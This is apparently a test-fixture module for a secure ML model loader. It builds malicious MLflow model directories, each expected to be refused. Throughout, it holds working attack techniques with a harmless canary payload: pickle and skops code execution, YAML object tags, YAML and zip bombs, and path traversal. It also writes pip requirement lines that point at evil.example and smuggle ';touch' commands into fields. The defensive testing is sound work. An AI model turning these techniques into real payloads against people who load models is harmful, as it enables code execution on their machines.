"""Models that attack whoever opens them: each is a good model's directory with something done to it."""

import gzip
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import skops.io
from ruamel.yaml import YAML
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

Do = Callable[[Path, Path], None]
"""Model directory and canary -> the attack is in place; when it works, the canary is there."""


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One way to attack."""

    name: str
    do: Do
    refused: str | None = None
    """What is said when it is to be adopted or loaded; None: it loads, and must do nothing."""
    loads: bool = False
    """It gets as far as being read in the child, which ends in `refused`; all others are refused before."""


class Reduced:
    """Unpickled, it makes the canary."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        """Have a file made by whoever reads this."""
        return Path.touch, (self.canary,)


def touching(canary: Path) -> str:
    return f"import pathlib; pathlib.Path({str(canary)!r}).touch()\n"


def described(model: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change what MLmodel says."""
    yaml = YAML(typ="safe")
    content = yaml.load((model / "MLmodel").read_text())
    change(content)
    with (model / "MLmodel").open("w") as file:
        yaml.dump(content, file)


def flavours(model: Path, *, sklearn: dict[str, Any] | None = None, served: dict[str, Any] | None = None) -> None:
    def change(content: dict[str, Any]) -> None:
        content["flavors"]["sklearn"].update(sklearn or {})
        content["flavors"]["python_function"].update(served or {})

    described(model, change)


def stored_as(name: str, kind: str, data: Callable[[Path], bytes]) -> Do:
    """Put other bytes in and have both flavours name them."""

    def do(model: Path, canary: Path) -> None:
        (model / name).write_bytes(data(canary))
        flavours(model, sklearn={"pickled_model": name, "serialization_format": kind}, served={"model_path": name})

    return do


def pickled(canary: Path) -> bytes:
    return pickle.dumps(Reduced(canary))


def joblibbed(canary: Path) -> bytes:
    path = canary.with_name("made.joblib")
    joblib.dump(Reduced(canary), path)
    return path.read_bytes()


def calling(function: Callable[..., Any], **arguments: Any) -> Do:
    """Store a pipeline that calls a function, and have the model's own list trust it."""

    def do(model: Path, canary: Path) -> None:
        given = {
            key: value.format(canary=canary) if isinstance(value, str) else value for key, value in arguments.items()
        }
        evil = make_pipeline(FunctionTransformer(function, kw_args=given or None), LogisticRegression())
        data = skops.io.dumps(evil)
        (model / "model.skops").write_bytes(data)
        flavours(model, sklearn={"skops_trusted_types": skops.io.get_untrusted_types(data=data)})

    return do


def with_code(model: Path, canary: Path) -> None:
    (model / "code").mkdir()
    for name in ("evil.py", "sitecustomize.py", "sklearn.py"):
        (model / "code" / name).write_text(touching(canary))


def code_directory(model: Path, canary: Path) -> None:
    with_code(model, canary)
    flavours(model, sklearn={"code": "code"}, served={"code": "code"})


def loader_module(model: Path, canary: Path) -> None:
    with_code(model, canary)
    flavours(model, served={"loader_module": "evil", "code": "code"})


def model_code_path(model: Path, canary: Path) -> None:
    (model / "evil.py").write_text(touching(canary))
    flavours(model, served={"model_code_path": "evil.py"})


def pyfunc_only(model: Path, canary: Path) -> None:
    (model / "python_model.pkl").write_bytes(pickled(canary))
    served = {"loader_module": "mlflow.pyfunc.model", "python_model": "python_model.pkl", "cloudpickle_version": "3"}
    described(model, lambda content: content.update(flavors={"python_function": served}))


def another_flavour(model: Path, canary: Path) -> None:
    (model / "data").mkdir()
    (model / "data" / "model.pth").write_bytes(pickled(canary))
    described(model, lambda content: content["flavors"].update(pytorch={"model_data": "data"}))


def mlmodel(text: str | bytes) -> Do:
    """Replace or extend the MLmodel file; ``{old}`` is what it said."""

    def do(model: Path, canary: Path) -> None:
        path = model / "MLmodel"
        if isinstance(text, bytes):
            path.write_bytes(path.read_bytes() + text)
        else:
            path.write_text(text.replace("{old}", path.read_text()).replace("{canary}", str(canary)))

    return do


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join([f'*{old}'] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)


def traversal(model: Path, canary: Path) -> None:
    outside = model.parent / "outside.pkl"
    outside.write_bytes(pickled(canary))
    named = "../outside.pkl"
    flavours(model, sklearn={"pickled_model": named, "serialization_format": "skops"}, served={"model_path": named})


def absolute(model: Path, canary: Path) -> None:
    outside = canary.with_name("outside.skops")
    outside.write_bytes(pickled(canary))
    flavours(model, sklearn={"pickled_model": str(outside)}, served={"model_path": str(outside)})


def symlink(model: Path, canary: Path) -> None:
    outside = canary.with_name("linked.skops")
    outside.write_bytes(pickled(canary))
    (model / "model.skops").unlink()
    (model / "model.skops").symlink_to(outside)


def colliding(model: Path, canary: Path) -> None:
    (model / "Model.skops").write_bytes(pickled(canary))


def zip_bomb(model: Path, canary: Path) -> None:
    del canary
    zeros = b" " * (1 << 24)
    with (
        zipfile.ZipFile(model / "model.skops", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file,
        file.open("schema.json", "w", force_zip64=True) as member,
    ):
        for _ in range(110):  # 1.8 GB in 8 MB
            member.write(zeros)


def deep_schema(model: Path, canary: Path) -> None:
    del canary
    with zipfile.ZipFile(model / "model.skops", "w") as file:
        file.writestr("schema.json", "[" * 1_000_000)


def env_files(model: Path, canary: Path) -> None:
    package = model / "package"
    package.mkdir()
    (package / "setup.py").write_text(touching(canary))
    (model / "requirements.txt").write_text(
        "--extra-index-url http://evil.example/simple\n-e ./package\nnumpy @ http://evil.example/numpy.tar.gz\n"
        f"--global-option=;touch {canary}\n"
    )
    (model / "conda.yaml").write_text(f"dependencies: [pip, {{pip: ['-e ./package; touch {canary}']}}]\n")
    (model / "python_env.yaml").write_text(f"python: '3.11; touch {canary}'\n")


def startup_files(model: Path, canary: Path) -> None:
    for name in ("__init__.py", "__main__.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "sklearn.py"):
        (model / name).write_text(touching(canary))
    (model / "evil.pth").write_text(touching(canary))
    (model / "pyvenv.cfg").write_text("home = .\n")


ATTACKS = (
    Attack(name="pickle", do=stored_as("model.pkl", "cloudpickle", pickled), refused="stored with cloudpickle"),
    Attack(name="flipped to pickle", do=stored_as("model.pkl", "pickle", pickled), refused="stored with pickle"),
    Attack(name="no format at all", do=stored_as("model.pkl", "", pickled), refused="stored with an unnamed format"),
    Attack(
        name="gzip pickle",
        do=stored_as("model.pkl.gz", "cloudpickle", lambda canary: gzip.compress(pickled(canary))),
        refused="stored with cloudpickle",
    ),
    Attack(name="joblib", do=stored_as("model.joblib", "joblib", joblibbed), refused="stored with joblib"),
    Attack(
        name="pickle that is called skops",
        do=stored_as("model.skops", "skops", pickled),
        refused="the model does not load: BadZipFile",
        loads=True,
    ),
    Attack(
        name="a type that trusts itself: numpy.testing",
        do=calling(np.testing.runstring, astr="open('{canary}', 'w')", dict={}),
        refused=r"types that policy\.formats\.types does not allow: numpy\.testing",
    ),
    Attack(name="os.system", do=calling(__import__("os").system), refused=r"does not allow: posix\.system"),
    Attack(name="eval", do=calling(eval), refused=r"does not allow: builtins\.eval"),
    Attack(
        name="partial of exec",
        do=calling(partial(exec, "open('{canary}', 'w')")),
        refused=r"does not allow: builtins\.exec",
    ),
    Attack(name="code directory", do=code_directory, refused="another way to load it .*python_function's code"),
    Attack(name="loader module", do=loader_module, refused="another way to load it .*loader_module"),
    Attack(name="model code path", do=model_code_path, refused="another way to load it .*model_code_path"),
    Attack(
        name="pyfunc only", do=pyfunc_only, refused="has the flavours python_function: loading them can run any code"
    ),
    Attack(name="another flavour", do=another_flavour, refused="another way to load it .*the flavour pytorch"),
    Attack(
        name="a tag in MLmodel",
        do=mlmodel('{old}\nevil: !!python/object/apply:os.system ["touch {canary}"]\n'),
        refused="MLmodel is not YAML",
    ),
    Attack(name="YAML bomb", do=mlmodel("{old}\n" + BOMB), refused="refers to itself more often"),
    Attack(name="huge MLmodel", do=mlmodel(b"\n#" + b"x" * (2 << 20)), refused="larger than an MLmodel file can be"),
    Attack(name="MLmodel that is no text", do=mlmodel(b"\n\xff\xfe\x00"), refused="MLmodel is not YAML"),
    Attack(name="deep MLmodel", do=mlmodel("{old}\ndeep: " + "[" * 5_000), refused="MLmodel is not YAML"),
    Attack(name="flavours that are no mapping", do=mlmodel("flavors: [sklearn]"), refused="names no flavour"),
    Attack(
        name="a flavour of nothing",
        do=mlmodel("flavors: {sklearn: null, python_function: {}}"),
        refused="says nothing about the flavour",
    ),
    Attack(name="path traversal", do=traversal, refused="not inside the model"),
    Attack(name="absolute path", do=absolute, refused="not inside the model"),
    Attack(name="symbolic link", do=symlink, refused="a symbolic link|outside the artifact directory"),
    Attack(name="colliding names", do=colliding, refused="collides with another file name"),
    Attack(
        name="an id that is another's",
        do=lambda model, _: described(model, lambda content: content.update(model_id="m-../../../etc")),
        refused="is no model address",
    ),
    Attack(name="zip bomb", do=zip_bomb, refused="MemoryError.* a model may have", loads=True),
    Attack(name="deep schema", do=deep_schema, refused="the model does not load: RecursionError", loads=True),
    Attack(name="environment files with options of pip", do=env_files),
    Attack(name="files that Python runs when it starts", do=startup_files),
)
